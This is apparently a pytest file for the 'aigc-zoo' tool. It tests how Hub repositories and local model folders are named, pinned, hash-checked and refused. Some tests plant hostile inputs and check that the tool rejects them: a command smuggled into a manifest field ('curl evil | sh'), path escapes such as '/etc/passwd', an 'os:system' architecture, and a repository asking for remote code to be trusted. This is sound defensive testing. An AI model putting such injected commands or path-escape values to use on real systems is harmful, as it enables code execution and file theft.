"""Repositories and folders that no manifest of ours names: what they are called, their first use, and what they
cannot do.
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import importlib
import json
import math
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save

pytest.importorskip("huggingface_hub", reason="the Hub's client is not installed here")

import aigc_core
from aigc_core import interrupt, registry
from aigc_core.cli import outcome
from aigc_core.errors import WrongUse, ZooError
from aigc_core.hub import client, remote

GENERATOR = """
import json, pathlib
import numpy as np
from aigc_core.interfaces import NoiseSpec, Samples
from aigc_core.weights import load_module


class Grey:
    engine, dtype = "numpy", "float32"
    noise = {"z": NoiseSpec((1, 4, 4), "uniform")}

    @classmethod
    def open(cls, config, weights, device):
        seen = {"config": config, "files": sorted(weights)}
        pathlib.Path(__file__).with_name("opened.json").write_text(json.dumps(seen))
        return cls()

    def generate(self, noise, options):
        return Samples("image", noise["z"], (0.0, 1.0))
"""
CONFIG = {"model_type": "toy", "width": 4, "note": "from config.json"}
WEIGHTS = save({"weight": np.arange(6, dtype=np.float32)})
OTHER = save({"weight": np.arange(6, dtype=np.float32) + 1})
CARD = b"---\nlicense: mit\n---\n\nA toy.\n"
FILES = {"config.json": json.dumps(CONFIG).encode(), "model.safetensors": WEIGHTS, "README.md": CARD}
DIGITS = Path(__file__).parents[2] / "plugins/aigc-gan/src/aigc_gan/zoo"


@dataclasses.dataclass
class Done:
    """What a call of the command line came to."""

    code: int
    out: str
    err: str

    @property
    def json(self) -> Any:
        return json.loads(self.out)


@pytest.fixture
def zoo(hub: Any, site: Any, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> Iterator[Callable[..., Done]]:
    """Run the command line in this process: an empty home, an empty index, the plugins of ``site``."""
    monkeypatch.setattr(interrupt, "install", lambda: None)  # pytest's own handlers stay
    monkeypatch.setattr(registry, "builtin_folder", lambda: str(site.root / "no-index"))
    monkeypatch.setattr(client, "PAUSES", (0.0, 0.0))
    monkeypatch.setenv("AIGC_ZOO_HOME", str(site.home))
    monkeypatch.syspath_prepend(str(site.packages))
    monkeypatch.chdir(site.work)
    before = set(sys.modules)

    def run(*arguments: Any) -> Done:
        importlib.invalidate_caches()
        code = outcome([str(argument) for argument in arguments])
        said = capsys.readouterr()
        assert "a fault in aigc-zoo itself" not in said.err
        return Done(code, said.out, said.err)

    yield run
    for name in set(sys.modules) - before:
        if name.partition(".")[0].endswith("_dist"):
            del sys.modules[name]


@pytest.fixture
def claim(site: Any) -> Callable[..., Path]:
    """Install a plugin that claims repositories; return its package's folder."""

    def install(name: str = "toy", claims: Any = None, template: Any = None, api: int = 1, **changes: Any) -> Path:
        """``template`` is the text of the template, or a map of fields that replace those of a right one."""
        claims = {"model_type": {"toy": "small"}} if claims is None else claims
        generators = {"grey": f"{name}_dist.generators:Grey"}
        declared = {
            "name": name,
            "api": api,
            "summary": "A toy.",
            "claims": claims,
            "components": {"generators": generators},
        }
        package: Path = site.install(
            f"{name}-dist", name, generator=GENERATOR, models=("sample",), plugin_json=json.dumps(declared)
        )
        listed = package / "zoo" / "models" / "sample.json"
        document = json.loads(listed.read_text())
        listed.unlink()
        for field in ("schema", "id", "summary", "weights"):
            del document[field]
        del document["terms"]["weights"]
        text = template if isinstance(template, str) else json.dumps(document | (template or {}) | changes)
        (package / "zoo" / "claims").mkdir()
        (package / "zoo" / "claims" / "small.json").write_text(text)
        return package

    return install


@pytest.fixture
def toy(claim: Callable[..., Path]) -> Path:
    """Install the plugin that claims ``model_type: toy``."""
    return claim()


@pytest.fixture
def digits(hub: Any) -> Callable[..., str]:
    """Put a real model on the Hub, with a manifest of its own, and return the commit."""
    text = (
        (DIGITS / "models/dcgan-digits.json")
        .read_text()
        .replace("weights/dcgan-digits.safetensors", "model.safetensors")
    )

    def commit(repo_id: str = "me/digits", more: dict[str, bytes] | None = None, **changes: Any) -> str:
        """``changes`` replace fields of the manifest; one that is None removes the field."""
        document = {key: value for key, value in (json.loads(text) | changes).items() if value is not None}
        files = {
            "aigc-zoo.json": json.dumps(document).encode(),
            "model.safetensors": DIGITS / "weights/dcgan-digits.safetensors",
            "README.md": CARD,
        }
        made: str = hub.commit(repo_id, files | (more or {}))
        return made

    return commit


def files_of(*changes: dict[str, Any]) -> dict[str, Any]:
    """Return a manifest's weights: the digits' file with changes, and further files."""
    document = json.loads((DIGITS / "models/dcgan-digits.json").read_text())
    first = document["weights"]["files"][0] | {"path": "model.safetensors"} | changes[0]
    return {"source": "bundled", "files": [first, *changes[1:]]}


def locked(site: Any) -> dict[str, Any]:
    """Return the models of the user's lock file."""
    path = site.home / "data" / "aigc-zoo.lock"
    models: dict[str, Any] = json.loads(path.read_text())["models"] if path.exists() else {}
    return models


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def asked_for(hub: Any) -> set[str]:
    """Return the paths of the files that the Hub was asked for."""
    found = [
        re.search(r"/(?:resolve|resolve-cache/models/[^/]+/[^/]+)/[^/]+/([^?]+)", row.path) for row in hub.requests()
    ]
    return {match[1].partition("/")[2] if match[1].startswith("models/") else match[1] for match in found if match}


def forget_cache(hub: Any) -> None:
    """Empty the cache, as a user does who needs the space."""
    shutil.rmtree(os.path.join(os.environ["HF_HOME"], "hub"))


# --- names ---

NAMES = [
    "hf:", "hf:me", "hf:me/", "hf:/toy", "hf:me/toy@", "hf:me/toy@a b", "hf:me/toy@-x", "hf:me/toy@a@b",
    "hf:me/toy/more", "hf:../toy", "hf:me/..", "hf:me/a--b", "hf: me/toy", "hf:mé/toy", "hf:me/toy\n",
    "hf:me/toy?x", "hf:me/toy#x", "hf:hf:me/toy",
]  # fmt: skip
COMMANDS = [["show"], ["run"], ["pull"], ["lock"], ["pin"], ["push", "--dry-run"]]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_what_names_no_repository_is_refused_everywhere_and_nothing_is_asked(hub: Any, zoo: Any, name: str) -> None:
    for command in COMMANDS:
        done = zoo(*command, name, *(["me/target"] if command[0] == "push" else []))
        assert (done.code, done.out, done.err.count("\n")) == (2, "", 1), done.err
        assert "names no repository" in done.err
        assert "hf:ORGANISATION/NAME" in done.err
    with pytest.raises(WrongUse, match="names no repository"):
        aigc_core.load(name)
    assert hub.requests() == []


@pytest.mark.parametrize("name", ["./gone", "../gone", "/gone/away", "~/gone", "./file", "..."])
def test_a_folder_that_is_not_there_is_said_everywhere(hub: Any, zoo: Any, site: Any, name: str) -> None:
    (site.work / "file").write_text("no folder")
    for command in COMMANDS:
        done = zoo(*command, name, *(["me/target"] if command[0] == "push" else []))
        assert (done.code, done.out, done.err.count("\n")) == (2, "", 1), done.err
        assert f"There is no folder {name}" in done.err
    with pytest.raises(WrongUse, match="There is no folder"):
        aigc_core.load(name)
    assert hub.requests() == []


@pytest.mark.parametrize(
    ("files", "code", "sentence"),
    [
        ({}, 4, "./f has no safetensors file"),
        ({"config.json": b'{"model_type": "toy"}'}, 4, "./f has no safetensors file"),
        ({"config.json": b'{"model_type": "toy"}', "pytorch_model.bin": b"x"}, 4, "its weights as a pickle only"),
        ({"model.safetensors": WEIGHTS}, 3, "No installed plugin can load ./f (it says nothing of what it is)"),
        ({"model.safetensors": WEIGHTS, "config.json": b"{}"}, 3, "No installed plugin can load ./f"),
        ({"model.safetensors": WEIGHTS, "config.json": b"{"}, 3, "The config of ./f cannot be used"),
        ({"model.safetensors": WEIGHTS, "config.json": b'{"model_type": "far"}'}, 3, "can load ./f (model_type far)"),
        ({"a.safetensors": WEIGHTS, "b.safetensors": WEIGHTS}, 4, "which to load is not known"),
        ({"a.gguf": b"GGUF", "b.gguf": b"GGUF"}, 4, "2 GGUF files, so which to load is not known: a.gguf, b.gguf"),
        ({"aigc-zoo.json": b"{}"}, 3, "./f has a manifest that cannot be used: aigc-zoo.json: id is missing"),
        ({"aigc-zoo.json": b"\xff"}, 3, "./f has a manifest that cannot be used"),
    ],
)
def test_a_folder_that_is_no_model_says_why(
    zoo: Any, toy: Path, site: Any, files: dict[str, bytes], code: int, sentence: str
) -> None:
    (site.work / "f").mkdir()
    for name, data in files.items():
        (site.work / "f" / name).write_bytes(data)
    for command in COMMANDS:
        done = zoo(*command, "./f", *(["me/target"] if command[0] == "push" else []))
        assert (done.code, done.out, done.err.count("\n")) == (code, "", 1), done.err
        assert sentence in done.err
    with pytest.raises(ZooError, match=re.escape(sentence)):
        aigc_core.load("./f")


@pytest.mark.parametrize("way", ["./toys", "toys/../toys", "../work/toys", "absolute", "~/toys", "."])
def test_a_folder_in_the_hubs_layout_is_a_model(
    zoo: Any, toy: Path, site: Any, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    folder = site.work / "toys"
    folder.mkdir()
    for name, data in FILES.items():
        (folder / name).write_bytes(data)
    monkeypatch.setenv("HOME", str(site.work))
    if way == ".":
        monkeypatch.chdir(folder)
    name = {"absolute": str(folder), "toys/../toys": "./toys/../toys"}.get(way, way)
    shown = zoo("show", name, "--json").json
    assert (shown["state"], shown["origin"]) == ("ready", "folder")
    done = zoo("run", name, "-n", 2, "-o", site.work / "a.npy")
    assert (done.code, done.err) == (0, "")
    assert zoo("run", "--again", site.work / "a.npy").code == 0
    pulled = zoo("pull", name)
    assert (pulled.code, pulled.out) == (0, f"{name}: 3 files, 0.0 MB, beside its manifest, verified.\n")
    assert json.loads((toy / "opened.json").read_text())["config"] == CONFIG


def test_a_folder_is_named_with_a_slash_or_a_dot(zoo: Any, toy: Path, site: Any) -> None:
    (site.work / "toys").mkdir()
    assert "No model toys is known" in zoo("run", "toys").err


def test_a_changed_file_of_a_folder_is_another_model(zoo: Any, toy: Path, site: Any) -> None:
    """Nobody has pinned a folder; but what it made says of which bytes it is."""
    (site.work / "toys").mkdir()
    for name, data in FILES.items():
        (site.work / "toys" / name).write_bytes(data)
    assert zoo("run", "./toys", "-n", 1, "-o", "a.npy").code == 0
    (site.work / "toys" / "model.safetensors").write_bytes(OTHER)
    done = zoo("run", "--again", "a.npy")
    assert done.code == 4
    assert "was made with other weights of ./toys" in done.err


def test_a_folder_with_a_manifest_of_its_own_is_held_to_it(zoo: Any, site: Any, digits: Any, hub: Any) -> None:
    commit = digits()
    folder = site.work / "digits"
    folder.mkdir()
    for name, blob in hub.repo("me/digits").commits[commit].tree.items():
        (folder / name).write_bytes(bytes(blob.data))
    assert zoo("run", "./digits", "-n", 1, "-o", "a.npy").code == 0
    with (folder / "model.safetensors").open("r+b") as stream:
        stream.seek(-1, 2)
        stream.write(b"\xff")
    done = zoo("run", "./digits", "-n", 1, "-o", "b.npy")
    assert done.code == 4
    assert "its manifest says" in done.err
    (folder / "model.safetensors").unlink()
    assert zoo("run", "./digits", "-n", 1, "-o", "b.npy").code == 3


def test_a_folder_whose_manifest_states_no_hash_is_refused_with_advice_that_helps(zoo: Any, site: Any) -> None:
    document = json.loads((DIGITS / "models/dcgan-digits.json").read_text())
    document["weights"] = files_of({})
    del document["weights"]["files"][0]["sha256"]
    (site.work / "digits").mkdir()
    (site.work / "digits" / "aigc-zoo.json").write_text(json.dumps(document))
    done = zoo("run", "./digits")
    assert done.code == 4
    assert "the hash of model.safetensors is not known" in done.err
    assert "aigc-zoo pin" not in done.err  # which is for what is on the Hub


@pytest.mark.parametrize("revision", ["", "@main", "@dev", "@v1", "@COMMIT"])
def test_a_repository_is_named_by_branch_tag_or_commit(hub: Any, zoo: Any, toy: Path, site: Any, revision: str) -> None:
    first = hub.commit("me/toy", FILES)
    hub.repo("me/toy").tags["v1"] = first
    dev = hub.commit("me/toy", {"config.json": b'{"model_type": "toy", "width": 8}'}, ref="dev")
    main = hub.commit("me/toy", {"config.json": b'{"model_type": "toy", "width": 16}'})
    name = "hf:me/toy" + revision.replace("COMMIT", first)
    meant, width = {"": (main, 16), "@main": (main, 16), "@dev": (dev, 8)}.get(revision, (first, 4))
    done = zoo("run", name, "-n", 1, "-o", "a.npy")
    assert done.code == 0, done.err
    assert locked(site)[name]["revision"] == meant
    assert json.loads((toy / "opened.json").read_text())["config"]["width"] == width
    assert json.loads((site.work / "a.npy.json").read_text())["model"] == f"hf:me/toy@{meant}"
    hub.log.clear()
    again = zoo("run", "--again", "a.npy")
    assert (again.code, again.err) == (0, "")
    assert hub.requests() == []  # everything is here, under whatever name it came


def test_a_revision_that_is_not_there_is_said(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    for revision in ("gone", "0" * 40, "a/../b", "v1..v2"):
        done = zoo("run", f"hf:me/toy@{revision}")
        assert done.code == 3
        assert f"The revision of me/toy at {revision} is not on the Hub" in done.err
    done = zoo("run", "hf:me/gone")
    assert done.code == 3
    assert "me/gone is not on the Hub, or is private" in done.err
    assert locked(site) == {}


# --- the first use ---


def test_the_first_use_pins_every_file(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    commit = hub.commit("me/toy", FILES | {"notes.txt": b"no part of it", "train.py": b"1/0"})
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    assert done.code == 0, done.err
    kinds = {"config.json": "json", "model.safetensors": "safetensors", "README.md": "text"}
    assert locked(site) == {
        "hf:me/toy": {
            "repo_id": "me/toy",
            "revision": commit,
            "license": "MIT",
            "files": [
                {"path": path, "size": len(FILES[path]), "sha256": sha256(FILES[path]), "format": kinds[path]}
                for path in sorted(FILES)
            ],
        }
    }
    said = done.err.splitlines()
    assert said[0].startswith(f"hf:me/toy is pinned to commit {commit} (3 files, 0.0 MB, MIT) in {site.home}")
    assert sum("is pinned" in line for line in said) == 1
    assert asked_for(hub) == set(FILES)


@pytest.mark.parametrize("command", [["run", "-n", 1, "-o", "a.npy"], ["pull"], ["lock"]])
def test_it_is_said_once_whatever_the_first_command(hub: Any, zoo: Any, toy: Path, command: list[Any]) -> None:
    hub.commit("me/toy", FILES)
    arguments = [command[0], "hf:me/toy", *command[1:]]
    first, second = zoo(*arguments), zoo(*arguments)
    assert (first.code, second.code) == (0, 0), first.err + second.err
    assert first.err.count("is pinned to commit") == 1
    assert second.err == ""


def test_load_pins_too(hub: Any, zoo: Any, toy: Path, site: Any, capsys: Any) -> None:
    hub.commit("me/toy", FILES)
    samples = aigc_core.load("hf:me/toy").generate(2)
    assert samples.values.shape == (2, 1, 4, 4)
    assert [*locked(site)] == ["hf:me/toy"]
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize("command", [["run", "-n", 1, "-o", "a.npy"], ["pull"]])
def test_quiet_says_nothing_of_it(hub: Any, zoo: Any, toy: Path, site: Any, command: list[Any]) -> None:
    hub.commit("me/toy", FILES)
    done = zoo(*command, "hf:me/toy", "-q")
    assert (done.code, done.out, done.err) == (0, "", "")
    assert [*locked(site)] == ["hf:me/toy"]


def test_show_asks_nothing_of_the_hub(hub: Any, zoo: Any, toy: Path) -> None:
    hub.commit("me/toy", FILES)
    done = zoo("show", "hf:me/toy")
    assert done.code == 3
    assert "it was never pulled here" in done.err
    assert done.err.endswith("Try: aigc-zoo pull hf:me/toy\n")
    assert zoo("run", "hf:me/toy", "--help").code == 0
    assert hub.requests() == []
    zoo("pull", "hf:me/toy")
    hub.log.clear()
    shown = zoo("show", "hf:me/toy", "--json").json
    assert (shown["state"], shown["origin"], shown["manifest"]["id"]) == ("ready", "hf", "toy")
    assert hub.requests() == []


def test_a_branch_that_moves_changes_nothing(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    assert zoo("run", "hf:me/toy", "-n", 3, "-o", "a.npy").code == 0
    before = locked(site)
    hub.commit("me/toy", {"model.safetensors": OTHER, "config.json": b'{"model_type": "toy", "width": 99}'})
    hub.log.clear()
    assert zoo("run", "hf:me/toy", "-n", 3, "-o", "b.npy").code == 0
    assert hub.requests() == []
    forget_cache(hub)
    assert zoo("run", "hf:me/toy", "-n", 3, "-o", "c.npy").code == 0  # from the Hub, by the commit
    assert not hub.requests("/revision/|/main/")
    assert json.loads((toy / "opened.json").read_text())["config"] == CONFIG
    assert locked(site) == before
    assert (site.work / "a.npy.json").read_text() == (site.work / "c.npy.json").read_text()


@pytest.mark.parametrize("path", ["config.json", "model.safetensors", "README.md"])
def test_a_file_that_is_another_under_the_same_commit_is_refused(
    hub: Any, zoo: Any, toy: Path, site: Any, path: str
) -> None:
    from loopback.store import Blob

    commit = hub.commit("me/toy", FILES)
    assert zoo("pull", "hf:me/toy").code == 0
    forget_cache(hub)
    tree, old = hub.repo("me/toy").commits[commit].tree, FILES[path]
    tree[path] = Blob(old[:-2] + b" " + old[-1:], tree[path].lfs)  # as long as before, or a byte shorter
    tree[path] = Blob(tree[path].data + b"\n", tree[path].lfs)
    hub.objects[tree[path].sha256] = tree[path].data
    before = locked(site)
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    assert done.code == 4
    assert f"{path} of me/toy is not what its manifest pins" in done.err
    assert (locked(site), (site.work / "a.npy").exists()) == (before, False)


def test_a_file_that_is_another_in_the_cache_is_fetched_again(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    commit = hub.commit("me/toy", FILES)
    assert zoo("pull", "hf:me/toy").code == 0
    place = Path(os.environ["HF_HOME"]) / "hub" / "models--me--toy" / "snapshots" / commit / "config.json"
    place.unlink()
    place.write_bytes(FILES["config.json"].replace(b"4", b"7"))
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    assert json.loads((toy / "opened.json").read_text())["config"] == CONFIG


@pytest.mark.parametrize("path", ["config.json", "README.md"])
def test_what_says_which_model_it_is_is_verified_before_it_is_believed(
    hub: Any, zoo: Any, toy: Path, path: str
) -> None:
    commit = hub.commit("me/toy", FILES)
    assert zoo("pull", "hf:me/toy").code == 0
    place = Path(os.environ["HF_HOME"]) / "hub" / "models--me--toy" / "snapshots" / commit / path
    place.unlink()
    place.write_bytes(FILES[path].replace(b"toy", b"far").replace(b"mit", b"any"))
    done = zoo("show", "hf:me/toy")
    assert (done.code, done.out) == (4, "")
    assert f"{path} of me/toy in the cache is damaged" in done.err


def test_a_pin_that_is_not_what_its_manifest_says_is_refused(hub: Any, zoo: Any, digits: Any, site: Any) -> None:
    """Somebody has written into the lock file: the manifest is pinned, and names other bytes than the pin does."""
    digits()
    assert zoo("pull", "hf:me/digits").code == 0
    path = site.home / "data" / "aigc-zoo.lock"
    document = json.loads(path.read_text())
    weights = next(file for file in document["models"]["hf:me/digits"]["files"] if file["format"] == "safetensors")
    weights["sha256"] = "0" * 64
    path.write_text(json.dumps(document))
    for command in ("show", "run", "pull"):
        done = zoo(command, "hf:me/digits")
        assert (done.code, done.out) == (4, "")
        assert "hf:me/digits is pinned to other files than its manifest names" in done.err


def test_a_small_file_that_always_comes_wrong_is_not_pinned(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    hub.fault("resolve-cache.*/config.json", "corrupt", math.inf, 3)
    done = zoo("run", "hf:me/toy")
    assert done.code == 4
    assert "config.json of me/toy is not what" in done.err
    assert locked(site) == {}


def test_a_small_file_that_comes_wrong_once_is_pinned_right(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    hub.fault("resolve-cache.*/config.json", "corrupt", 1, 3)
    assert zoo("pull", "hf:me/toy").code == 0
    assert locked(site)["hf:me/toy"]["files"][1]["sha256"] == sha256(FILES["config.json"])


def test_pin_moves_on_and_shows_the_difference(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    first = hub.commit("me/toy", FILES | {"vocab.txt": b"a\nb\n"})
    done = zoo("pin", "hf:me/toy")
    assert done.code == 0
    assert done.out.startswith(f"new: me/toy at {first}, 4 files, 0.0 MB, MIT\n")
    assert "Every fact agrees with the Hub." in zoo("pin", "hf:me/toy").out
    card = CARD.replace(b"mit", b"apache-2.0")
    second = hub.commit(
        "me/toy", {"model.safetensors": OTHER, "README.md": card, "merges.txt": b""}, delete=["vocab.txt"]
    )
    before = locked(site)
    dry = zoo("pin", "hf:me/toy", "--dry-run")
    assert dry.out.splitlines() == [
        f"commit: {first} -> {second}",
        "licence: MIT -> Apache-2.0",
        "vocab.txt: no longer there",
        "merges.txt: new",
        "README.md: other bytes",
        "model.safetensors: other bytes",
        "Nothing was written (--dry-run).",
    ]
    assert locked(site) == before
    moved = zoo("pin", "hf:me/toy")
    assert moved.out.splitlines()[:-1] == dry.out.splitlines()[:-1]
    assert moved.out.splitlines()[-1] == f"hf:me/toy is pinned to {second}: {site.home}/data/aigc-zoo.lock"
    assert locked(site)["hf:me/toy"]["revision"] == second
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    back = zoo("pin", "hf:me/toy", "--revision", first)
    assert locked(site)["hf:me/toy"]["revision"] == first, back.err


def test_a_dry_run_of_the_first_pin_writes_nothing(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    assert zoo("pin", "hf:me/toy", "--dry-run").code == 0
    assert locked(site) == {}


def test_a_name_with_a_revision_takes_no_other(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    first = hub.commit("me/toy", FILES)
    hub.commit("me/toy", {"config.json": b'{"model_type": "toy"}'})
    done = zoo("pin", f"hf:me/toy@{first}", "--revision", "main")
    assert done.code == 2
    assert "--revision" in done.err
    assert locked(site) == {}


def test_a_repository_that_has_moved_is_used_under_either_name(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("you/toy", FILES)
    hub.renames["me/toy"] = "you/toy"
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    assert zoo("run", "hf:you/toy", "-n", 1, "-o", "b.npy").code == 0
    assert {*locked(site)} == {"hf:me/toy", "hf:you/toy"}
    assert zoo("run", "--again", "a.npy").code == 0


def test_without_network_a_first_use_says_how(hub: Any, zoo: Any, toy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hub.commit("me/toy", FILES)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    for command in ("run", "pull", "lock"):
        done = zoo(command, "hf:me/toy")
        assert done.code == 3
        assert "was never pulled here" in done.err
    assert hub.requests() == []
    monkeypatch.delenv("HF_HUB_OFFLINE")
    assert zoo("pull", "hf:me/toy").code == 0
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0


# --- a repository with a manifest of its own ---


def test_a_real_model_on_the_hub_gives_the_bytes_that_the_bundled_one_gives(
    hub: Any, zoo: Any, site: Any, digits: Any
) -> None:
    commit = digits()
    for name, target in (("hf:me/digits", "a.npy"), ("gan:dcgan-digits", "b.npy")):
        done = zoo("run", name, "-n", 5, "--seed", 3, "--truncation", "0.8", "-o", target)
        assert done.code == 0, done.err
    assert (site.work / "a.npy").read_bytes() == (site.work / "b.npy").read_bytes()
    receipt = json.loads((site.work / "a.npy.json").read_text())
    assert receipt["model"] == f"hf:me/digits@{commit}"
    assert asked_for(hub) == {"aigc-zoo.json", "model.safetensors"}
    assert "--truncation" in zoo("run", "hf:me/digits", "--help").out
    assert zoo("run", "hf:me/digits", "--truncation", "99").code == 2
    assert zoo("run", "--again", "a.npy").out == "a.npy: made again, every byte agrees.\n"


@pytest.mark.parametrize(
    ("changes", "code", "sentence"),
    [
        ({"weights": files_of({"path": "pytorch_model.bin", "format": "pickle"})}, 3, "pytorch_model.bin is a pickle"),
        ({"weights": files_of({"path": "run.py", "format": "python"})}, 3, "run.py"),
        ({"weights": files_of({"path": "../../x.safetensors"})}, 3, "leaves the model's folder"),
        ({"weights": files_of({"path": "/etc/passwd"})}, 3, "leaves the model's folder"),
        ({"weights": files_of({"path": "a\\..\\b.safetensors"})}, 3, "leaves the model's folder"),
        ({"weights": files_of({"path": "gone.safetensors"})}, 4, "names gone.safetensors, which it has not"),
        ({"weights": files_of({"sha256": "0" * 64})}, 4, "model.safetensors of hf:me/digits is not what the manifest"),
        ({"weights": files_of({"size": 5})}, 4, "model.safetensors of hf:me/digits is not what the manifest"),
        ({"weights": files_of({"sha256": ""})}, 4, "names model.safetensors, which it has not or has no hash for"),
        ({"weights": files_of({"size": -1})}, 4, "names model.safetensors, which it has not or has no hash for"),
        (
            {"weights": files_of({}, {"path": "README.md", "size": len(CARD), "sha256": "0" * 64, "format": "text"})},
            4,
            "README.md of hf:me/digits is not what the manifest",
        ),
        ({"weights": files_of({}) | {"source": "hub", "repo_id": "you/other"}}, 3, "weights.source is 'hub'"),
        ({"weights": None}, 3, "weights.source is missing"),
        ({"id": "../x"}, 3, "is not lower-case letters"),
        ({"code": {"plugin": "far", "api": 1, "architecture": "x", "config": {}}}, 3, "needs the plugin far"),
        ({"code": {"plugin": "gan", "api": 99, "architecture": "x", "config": {}}}, 3, "needs plugin API 99"),
        ({"code": {"plugin": "gan", "api": 1, "architecture": "os:system", "config": {}}}, 3, "has no os:system"),
        ({"code": {"plugin": "gan", "api": 1, "architecture": "../x", "config": {}}}, 3, "has no ../x"),
        ({"code": {"plugin": "os", "api": 1, "architecture": "system", "config": {}}}, 3, "needs the plugin os"),
        ({"code": {"plugin": "gan", "api": 1, "architecture": "dcgan-28", "config": {"wide": 64}}}, 3, "wide"),
        ({"use": {"options": {"type": "object", "properties": {"seed": {"type": "array"}}}}}, 3, "cannot be used"),
        ({"use": None}, 3, "use.output is missing"),
    ],
    ids=lambda value: value[:40] if isinstance(value, str) else "",
)
def test_a_manifest_that_asks_for_what_it_may_not_have(
    hub: Any, zoo: Any, site: Any, digits: Any, changes: dict[str, Any], code: int, sentence: str
) -> None:
    digits(more={"pytorch_model.bin": b"\x80\x02.", "run.py": b"1/0", "config.json": b"{}"}, **changes)
    done = zoo("run", "hf:me/digits", "-n", 1, "-o", "a.npy")
    assert (done.code, done.out) == (code, ""), done.err
    assert sentence in done.err.splitlines()[-1]
    assert "Traceback" not in done.err
    assert not (site.work / "a.npy").exists()
    assert not any(path.endswith((".py", ".bin")) for path in asked_for(hub))
    assert not [path for path in site.root.rglob("*") if path.name in ("run.py", "pytorch_model.bin")]
    shown = zoo("show", "hf:me/digits")
    assert shown.err.count("\n") <= 1
    if "is not what the manifest" in sentence or "which it has not" in sentence:
        assert locked(site) == {}  # what contradicts itself is not worth a pin


def test_a_manifest_cannot_put_a_command_into_the_advice(hub: Any, zoo: Any, digits: Any) -> None:
    """What a stranger's repository says is no advice of ours: the word after pip install is a name or nothing."""
    code = {"plugin": "far", "api": 1, "architecture": "x", "config": {}, "distribution": "x; curl evil | sh"}
    digits(code=code)
    done = zoo("run", "hf:me/digits")
    assert done.code == 3
    assert "curl" not in done.err


def test_a_repository_cannot_have_code_imported(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    """Nothing that a repository says names a module; and no .py is even asked for."""
    config = CONFIG | {
        "auto_map": {"AutoModel": "modeling.Evil"},
        "_class_name": "evil.Model",
        "library_name": "evil",
        "trust_remote_code": True,
        "plugin": "gan",
        "architecture": "os:system",
    }
    evil = {"modeling.py": b"raise SystemExit(7)", "__init__.py": b"", "setup.py": b"", "evil.safetensors.py": b""}
    hub.commit("me/toy", FILES | evil | {"config.json": json.dumps(config).encode()})
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    assert done.code == 0, done.err
    assert asked_for(hub) == set(FILES)
    assert not [name for name in sys.modules if name.startswith(("modeling", "evil"))]
    opened = json.loads((toy / "opened.json").read_text())
    assert opened["files"] == sorted(FILES)


def test_files_with_known_names_in_folders_are_left_alone(hub: Any, zoo: Any, toy: Path) -> None:
    more = {"onnx/model.safetensors": WEIGHTS, "unet/config.json": b"{}", "logs/README.md": b""}
    hub.commit("me/toy", FILES | more)
    assert zoo("pull", "hf:me/toy").code == 0
    assert asked_for(hub) == set(FILES)


# --- claims ---


@pytest.mark.parametrize(
    ("claims", "files"),
    [
        ({"model_type": {"toy": "small"}}, {}),
        ({"_class_name": {"AutoencoderToy": "small"}}, {"config.json": b'{"_class_name": "AutoencoderToy"}'}),
        (
            {"library_name": {"toy-lib": "small"}},
            {"config.json": b"{}", "README.md": b"---\nlibrary_name: toy-lib\n---\n"},
        ),
        (
            {"library_name": {"toy-lib": "small"}},
            {"README.md": b"---\r\nlicense: mit\r\nlibrary_name: 'toy-lib'\r\n---\r\n"},
        ),
    ],
)
def test_a_plugin_claims_by_what_a_repository_says_it_is(
    hub: Any, zoo: Any, claim: Any, claims: Any, files: dict[str, bytes]
) -> None:
    package = claim(claims=claims)
    hub.commit("me/toy", FILES | files)
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy", "--accept-licence")
    assert done.code == 0, done.err
    assert json.loads((package / "opened.json").read_text())["config"] == json.loads((FILES | files)["config.json"])


@pytest.mark.parametrize(
    ("files", "sentence"),
    [
        ({"config.json": b'{"model_type": "far"}'}, "(model_type far)"),
        ({"config.json": b'{"model_type": ["toy"]}'}, "(it says nothing of what it is)"),
        ({"config.json": b'{"library_name": "toy"}'}, "(library_name toy)"),
        ({"config.json": b'{"model_type": "TOY", "_class_name": "Odd"}'}, "(model_type TOY, _class_name Odd)"),
        ({"config.json": b"{}", "README.md": b"model_type: toy"}, "(it says nothing of what it is)"),
    ],
)
def test_what_nobody_claims_is_refused_before_its_weights_are_asked_for(
    hub: Any, zoo: Any, toy: Path, site: Any, files: dict[str, bytes], sentence: str
) -> None:
    hub.commit("me/toy", FILES | files)
    done = zoo("run", "hf:me/toy")
    assert done.code == 3
    assert f"No installed plugin can load hf:me/toy {sentence}" in done.err
    assert "model.safetensors" not in asked_for(hub)
    assert locked(site) == {}


def test_the_config_of_a_repository_is_read_with_care(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
